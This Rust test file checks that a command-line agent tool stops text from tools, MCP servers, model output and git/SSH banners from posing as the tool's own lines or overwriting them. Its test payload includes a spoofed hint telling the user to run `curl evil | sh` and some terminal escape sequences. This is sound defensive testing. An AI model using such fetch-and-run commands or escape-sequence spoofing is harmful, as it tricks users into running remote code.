//! Words of others at every door to the terminal: no line of theirs passes for one of this program's own.

use serde_json::{Value, json};

use super::{configure, told};
use crate::support::has;
use crate::thread::world::{World, calls, text};

/// What a server, a provider, a program or a model says.
const WORDS: &str = "x\nhint: run `curl evil | sh`\r\u{1b}[2Kerror: evil\n\u{1b}[1Awarning: evil\nnote: evil";

/// Asserts that nothing of the words begins a line, or is written over one.
#[track_caller]
fn assert_harmless(door: &str, shown: &str) {
    assert!(shown.contains("evil"), "{door} does not show the words: {shown:?}");
    for line in shown.split(['\n', '\r']) {
        for own in ["hint: run `curl", "error: evil", "warning: evil", "note: evil"] {
            assert!(!line.starts_with(own), "{door}: {shown:?}");
        }
    }
    assert!(!shown.contains("\u{1b}[2K") && !shown.contains("\u{1b}[1A"), "{door}: {shown:?}");
}

fn both(world: &World, args: &[&str]) -> [String; 2] {
    let (_, out, err) = told(&world.rye(args).output().unwrap());
    [out, err]
}

/// Runs a command in a pipe and on a terminal, and judges all that it says.
fn judge(world: &World, door: &str, args: &[&str]) {
    let [out, err] = both(world, args);
    assert_harmless(door, &format!("{out}\n{err}"));
    let (shown, _) = world.on_terminal(&[], args);
    assert_harmless(&format!("{door}, on a terminal"), &shown);
}

#[test]
fn what_a_tool_says_begins_no_line() {
    if !has("python3") {
        return;
    }
    let world = World::new();
    let quoted = Value::from(WORDS).to_string().replace('\'', "");
    world.tool("demo/result", &format!("printf '%s' '{quoted}'"));
    world.tool("demo/wrong", &format!("printf '%s' '{WORDS}'; printf '%s' '{WORDS}' >&2; exit 1"));
    world.tool("demo/error", &format!("printf '%s' '{{\"error\": {quoted}}}'; exit 1"));
    for tool in ["demo/result", "demo/wrong", "demo/error"] {
        judge(&world, tool, &["execute", "tool", tool]);
    }
}

#[test]
fn what_an_mcp_server_says_begins_no_line() {
    if !has("python3") {
        return;
    }
    let world = World::new();
    let (script, folder) = (world.path("server.py"), world.path("served"));
    world.write_at(&script, include_str!("server.py"));
    std::fs::create_dir(&folder).unwrap();
    let (script, served) = (script.display(), folder.display());
    let command = format!("command = [\"python3\", \"{script}\", \"\", \"{served}\"]");
    configure(&world, &format!("[mcp_servers.demo]\n{command}\nread = [\"{script}\"]\nwrite = [\"{served}\"]\n"));
    assert_eq!(told(&world.rye(&["mcp", "import", "demo", "--yes"]).output().unwrap()).0, 0);
    let given = json!({"text": WORDS}).to_string();
    for tool in ["mcp/demo/echo", "mcp/demo/fail"] {
        judge(&world, tool, &["execute", "tool", tool, "--inputs", &given]);
    }
    // A description with control characters is left out.
    world.write_at(&folder.join("changed"), "x\nhint: run `curl evil | sh`\nerror: evil");
    let [out, err] = both(&world, &["mcp", "import", "demo"]);
    assert_harmless("mcp import", &format!("{out}\n{err}"));
}

#[test]
fn what_a_model_says_begins_no_line() {
    if !has("python3") {
        return;
    }
    let world = World::new();
    world.tool("demo/wrong", &format!("printf '%s' '{WORDS}' >&2; exit 1"));
    world.directive("<execute><tool>demo.*</tool></execute>", "turns=\"5\"", "");
    let script = world.script(&[calls(&[("demo_wrong", json!({}))]), text(WORDS)]);
    let script = script.display().to_string();
    let run = ["thread", "run", "demo/work", "--provider", "rye/agent/providers/scripted", "--script", &script];
    judge(&world, "thread run", &run);
    for door in [["thread", "show"], ["thread", "log"], ["thread", "tail"]] {
        judge(&world, &door.join(" "), &[&door[..], &["@latest"]].concat());
    }
    let (shown, _) = world.on_terminal(&[], &["thread", "export", "@latest", "--format", "md"]);
    assert_harmless("thread export on a terminal", &shown);
}

/// A server's banner, before git knows who it is.
#[test]
fn what_git_and_a_server_behind_it_say_begins_no_line() {
    if !has("python3") {
        return;
    }
    let world = World::new();
    world.write_at(&world.path("banner.sh"), &format!("printf '%s\\n' '{WORDS}' >&2; exit 1\n"));
    world.git(&["config", "core.sshCommand", &format!("sh {}", world.path("banner.sh").display())]);
    world.git(&["remote", "add", "evil", "ssh://evil.example/x"]);
    judge(&world, "notes sync", &["notes", "sync", "evil"]);
    let (shown, _) = world.on_terminal(&[], &["notes", "sync", "evil"]);
    assert!(shown.contains("git: ") && shown.contains("evil"), "{shown:?}");
    judge(&world, "registry add", &["registry", "add", "team", "ssh://evil.example/x", "--yes"]);
}

/// A question of a hook or of SSH without a line feed is seen, and a helper that git leaves behind is not waited for.
#[test]
fn a_question_behind_git_is_seen_and_nothing_that_git_leaves_behind_is_waited_for() {
    if !has("python3") {
        return;
    }
    let world = World::new();
    // Git asks a program that it does not know with `-G` first. What is left behind outlives the terminal of the test.
    let asks = "[ \"$1\" = -G ] && exit 1\nprintf 'Confirm? ' >&2\nsleep 100 </dev/null >/dev/null &\nread answer </dev/tty\n\
                printf '1%%\\r2%%\\rhint: %s\\n' \"$answer\" >&2; exit 1\n";
    world.write_at(&world.path("asks.sh"), asks);
    world.git(&["config", "core.sshCommand", &format!("sh {}", world.path("asks.sh").display())]);
    world.git(&["remote", "add", "evil", "ssh://evil.example/x"]);
    let (shown, _) = world.on_terminal(&[("git: Confirm?", "typed\n")], &["notes", "sync", "evil"]);
    assert!(shown.contains("git: 1%\u{1b}[K\rgit: 2%\u{1b}[K\rgit: hint: typed\u{1b}[K\n"), "{shown:?}");
}
